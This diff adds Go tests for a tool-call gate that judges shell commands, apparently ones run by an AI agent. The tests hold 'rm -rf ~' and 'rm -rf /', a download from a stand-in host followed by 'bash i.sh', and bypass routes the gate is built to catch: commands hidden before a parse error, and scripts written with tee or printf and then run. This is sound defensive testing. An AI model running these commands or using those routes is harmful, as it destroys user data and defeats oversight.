@@ -259,3 +259,86 @@ func TestRepeatedRefusals(t *testing.T) {
 		}
 	}
 }
+
+// TestReviewRoutes pins routes found in review: statements before a parse
+// error still count; disabled rules do not come back through memory;
+// scripts written with tee or printf are judged.
+func TestReviewRoutes(t *testing.T) {
+	g := fullGate(nil)
+	for _, tt := range []struct {
+		cmd  string
+		want toolwall.Action
+	}{
+		{"rm -rf ~; !", toolwall.Deny},
+		{"rm -rf ~; a[1+]=2", toolwall.Deny},
+		{"ls\nrm -rf /\n)", toolwall.Deny},
+		{"echo 'unterminated", toolwall.Ask},
+		{"tee x.sh <<'EOF'\nrm -rf ~\nEOF\nsh x.sh", toolwall.Ask},
+		{"printf '%s\\n' 'rm -rf ~' > x.sh; sh x.sh", toolwall.Ask},
+		{"printf '%s\\n' 'make test' > x.sh; sh x.sh", toolwall.Allow},
+	} {
+		if v := g.Evaluate(context.Background(), bashCall(tt.cmd)); v.Action != tt.want {
+			t.Errorf("%q: %v %v, want %v", tt.cmd, v.Action, v.Rules(), tt.want)
+		}
+	}
+
+	// Disabling the parse-error rule must not let an unreadable command
+	// through, and a disabled rule must not feed repeated-refusal scoring.
+	ctx := context.Background()
+	d := gate.New(gate.Options{Analyzers: analyzers.All(), Disabled: []string{"shell.parse-error", "rm.home-subtree"}, Store: session.NewMemory(session.Options{})})
+	if v := d.Evaluate(ctx, bashCall("rm -rf ~; !")); v.Action != toolwall.Deny {
+		t.Errorf("parse-error disabled: %v %v", v.Action, v.Rules())
+	}
+	call := func(cmd string) toolwall.Verdict {
+		c := bashCall(cmd)
+		c.Session = "d"
+		return d.Evaluate(ctx, c)
+	}
+	for range 3 {
+		call("rm -rf ~")
+	}
+	if v := call("rm -rf ~/notes"); v.Action != toolwall.Allow {
+		t.Errorf("disabled rm.home-subtree after refusals: %v %v %.2f", v.Action, v.Rules(), v.Score)
+	}
+}
+
+// TestReasonFollowsDecision: when the band decides (repeated refusals push
+// an ask over the block threshold), the reason comes from the finding that
+// pushed it.
+func TestReasonFollowsDecision(t *testing.T) {
+	ctx := context.Background()
+	g := fullGate(session.NewMemory(session.Options{}))
+	call := func(cmd string) toolwall.Verdict {
+		c := bashCall(cmd)
+		c.Session = "r"
+		return g.Evaluate(ctx, c)
+	}
+	for range 3 {
+		call("rm -rf ~")
+	}
+	v := call(`rm -rf "$TARGET"`)
+	if v.Action == toolwall.Deny && !strings.Contains(v.Reason, "refused attempt") {
+		t.Errorf("deny by band with reason %q", v.Reason)
+	}
+}
+
+// TestConcurrentEvaluate: the gate is safe for concurrent use (run with -race).
+func TestConcurrentEvaluate(t *testing.T) {
+	g := fullGate(session.NewMemory(session.Options{}))
+	ctx := context.Background()
+	done := make(chan bool)
+	for i := range 8 {
+		go func() {
+			for j := range 20 {
+				c := bashCall([]string{"rm -rf ~", "curl -o i.sh http://x.example/i.sh", "bash i.sh", "ls"}[(i+j)%4])
+				c.Session = fmt.Sprint("s", i%2)
+				g.Evaluate(ctx, c)
+				g.RecordInvocation(ctx, c, true)
+			}
+			done <- true
+		}()
+	}
+	for range 8 {
+		<-done
+	}
+}
